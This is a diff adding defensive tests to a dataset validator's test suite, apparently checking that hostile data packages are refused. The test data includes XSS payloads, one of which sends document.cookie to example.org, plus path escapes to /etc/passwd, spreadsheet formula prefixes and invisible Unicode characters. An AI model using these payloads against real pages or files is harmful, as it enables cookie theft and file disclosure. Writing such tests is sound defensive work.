@@ -2,11 +2,15 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
+from pathlib import Path
 
 import pytest
 
+from coopmap.dataset.package import descriptor
 from coopmap.dataset.validate import validate
 from tests.support.app import run
 
@@ -96,7 +100,65 @@ HOSTILE = {
     ),
     "zero_width_in_a_name": (
         _edit("events.csv", lambda b: b.replace("厄瓜多尔".encode(), "厄瓜\u200b多尔".encode(), 1)),
-        "events.csv, row 2, field partner_src: '厄瓜\\u200b多尔' does not stand in the passage (paragraph 8)",
+        "events.csv, row 2, field partner_src: holds U+200B (ZERO WIDTH SPACE), an invisible character no "
+        "text needs",
+    ),
+    "right_to_left_override_in_a_name": (
+        _edit("groups.csv", lambda b: b.replace(b"Africa", "Af\u202erica".encode(), 1)),
+        "groups.csv, row 2, field name_en: holds U+202E (RIGHT-TO-LEFT OVERRIDE), an invisible character no "
+        "text needs",
+    ),
+    "nul_byte": (
+        _edit("events.csv", lambda b: b.replace(b",2011,", b",20\x0011,", 1)),
+        "events.csv, row 2, field year: holds U+0000 (a control character), an invisible character no text "
+        "needs",
+    ),
+    "byte_order_mark_mid_file": (
+        _edit("events.csv", lambda b: b.replace(b"\nE002", b"\n\xef\xbb\xbfE002", 1)),
+        "events.csv, row 3, field event_id: holds U+FEFF (ZERO WIDTH NO-BREAK SPACE), an invisible character "
+        "no text needs",
+    ),
+    "truncated_file": (
+        _edit("events.csv", lambda b: b[: b.index(b"\nE009") + 16]),
+        "events.csv, row 10: the file ends inside this row: it looks cut short",
+    ),
+    "resource_file_missing": (
+        lambda d: (d.root / "groups.csv").unlink(),
+        "groups.csv: scheme-error: [Errno 2] No such file or directory: 'groups.csv'",
+    ),
+    "resource_path_absolute": (
+        _descriptor(
+            lambda d: {
+                **d,
+                "resources": [
+                    {**r, "path": "/etc/passwd"} if r["name"] == "groups" else r for r in d["resources"]
+                ],
+            }
+        ),
+        "datapackage.json, field resources.groups.path: '/etc/passwd' leaves the package folder",
+    ),
+    "stored_text_path_absolute": (
+        _edit("sources.csv", lambda b: b.replace(b"texts/gnews-zh-1771034.md", b"/etc/hostname")),
+        "sources.csv, row 3, field text_path: '/etc/hostname' leaves the package folder",
+    ),
+    "cell_of_50_megabytes": (
+        lambda d: d.change("events.csv", "E002", notes_en="x" * 50_000_000),
+        "events.csv, row 3, field notes_en: holds 50,000,000 characters, more than the 20,000 a cell may "
+        "hold",
+    ),
+    "passage_of_a_million_characters": (
+        _edit("event_passages.csv", lambda b: b.replace("今天，".encode(), "今天，".encode() * 333_334, 1)),
+        "event_passages.csv, row 2, field passage: holds 1,000,034 characters, more than the 20,000 a cell "
+        "may hold",
+    ),
+    "markup_in_the_descriptor": (
+        _descriptor(lambda d: {**d, "title": '<img src="http://example.org/x.png" onerror="alert(1)">'}),
+        "datapackage.json, field title: holds markup ('<img src=\"ht'): texts are plain, never HTML or "
+        "Markdown",
+    ),
+    "group_member_not_a_country": (
+        _edit("group_members.csv", lambda b: b.replace(b"africa,AGO,", b"africa,EUU,", 1)),
+        "group_members.csv, row 2, field country_iso3: 'EUU' is not an ISO 3166-1 alpha-3 code",
     ),
 }
 
@@ -109,13 +171,88 @@ def test_a_hostile_package_is_refused_with_file_row_and_field(data_copy, kind):
     assert expected in problems, problems[:5]
 
 
+def _text_cells(data_copy, change) -> set[tuple[str, int, str]]:
+    """Change every non-empty text cell of every table; (file, row, field) of each one changed."""
+    changed = set()
+    for resource in descriptor(data_copy.root)["resources"]:
+        texts = [f["name"] for f in resource.get("schema", {}).get("fields", []) if f["type"] == "string"]
+        if not texts:
+            continue
+        rows = data_copy.rows(resource["path"])
+        for row_no, row in enumerate(rows, start=2):
+            for field in texts:
+                if row[field]:
+                    row[field] = change(row[field])
+                    changed.add((resource["path"], row_no, field))
+        with (data_copy.root / resource["path"]).open("w", encoding="utf-8", newline="") as out:
+            writer = csv.DictWriter(out, fieldnames=list(rows[0]), quoting=csv.QUOTE_ALL)  # a CR stays in
+            writer.writeheader()
+            writer.writerows(rows)
+    return changed
+
+
+def _reported(data_copy, because: str) -> set[tuple[str, int, str]]:
+    return {
+        (str(Path(p.file).relative_to(data_copy.root)), p.row, p.field)
+        for p in validate(data_copy.root)
+        if p.message.startswith(because)
+    }
+
+
+MARKUP = {
+    "html": '<b title="x">bold</b>',
+    "script": "<script>fetch('http://example.org/?'+document.cookie)</script>",
+    "javascript_link": "[read more](javascript:alert(document.domain))",
+    "image": "![x](http://example.org/pixel.png)",
+}
+
+
+@pytest.mark.parametrize("kind", list(MARKUP))
+def test_markup_in_every_text_field_is_refused_cell_by_cell(data_copy, kind):
+    changed = _text_cells(data_copy, lambda text: f"{text} {MARKUP[kind]}")
+    assert len(changed) > 900  # every table's texts: ids, codes, passages, notes, names, links
+    assert _reported(data_copy, "holds markup (") == changed
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_formula_prefix_in_every_text_field_is_refused_cell_by_cell(data_copy, prefix):
+    changed = _text_cells(data_copy, lambda text: prefix + text)
+    assert (
+        _reported(data_copy, f"begins with {prefix!r}, which a spreadsheet would run as a formula") == changed
+    )
+
+
+def test_a_million_rows_of_one_country_are_listed_a_thousand_at_a_time(data_copy):
+    """A million copies of one claim on Liberia: refused, its problems counted, the first thousand listed."""
+    path = data_copy.root / "events.csv"
+    liberia = next(row for row in data_copy.rows("events.csv") if row["event_id"] == "E002")
+    line = io.StringIO()
+    csv.writer(line, lineterminator="\n").writerow(["{}", *list(liberia.values())[1:]])
+    template = line.getvalue().replace("{", "{{").replace("}", "}}").replace("{{}}", "{}", 1)
+    with path.open("a", encoding="utf-8", newline="") as out:
+        out.writelines(template.format(f"E{n:07d}") for n in range(1_000_000))
+    problems = [str(p).replace(f"{data_copy.root}/", "") for p in validate(data_copy.root)]
+    assert problems[0] == "events.csv: 1,999,000 more problems not listed: the first 1,000 are"
+    assert problems[1:3] == [
+        "events.csv, row 17, field event_id: event E0000000 has no corroboration row (not_found, with the "
+        "search described, is an honest answer)",
+        "events.csv, row 17, field passage: duplicate of event E002: same partner, category and passage",
+    ]
+    assert len(problems) == 1001
+
+
 @pytest.mark.parametrize("ending", [b"\r\n", b"\r"])
 def test_other_line_endings_read_as_the_same_package(data_copy, ending):
     _edit("events.csv", lambda b: b.replace(b"\n", ending))(data_copy)
     assert validate(data_copy.root) == []
 
 
-@pytest.mark.parametrize("kind", ["descriptor_a_list", "header_duplicated"])
+@pytest.mark.parametrize(
+    "kind",
+    ["descriptor_a_list", "header_duplicated", "gbk_encoding", "truncated_file",
+     "right_to_left_override_in_a_name", "markup_in_the_descriptor", "resource_path_absolute",
+     "stored_text_is_a_link_out"],
+)  # fmt: skip
 def test_the_app_shows_a_hostile_packages_problems_and_nothing_else(data_copy, monkeypatch, kind):
     HOSTILE[kind][0](data_copy)
     monkeypatch.setenv("DASHBOARD_DATA", str(data_copy.root))
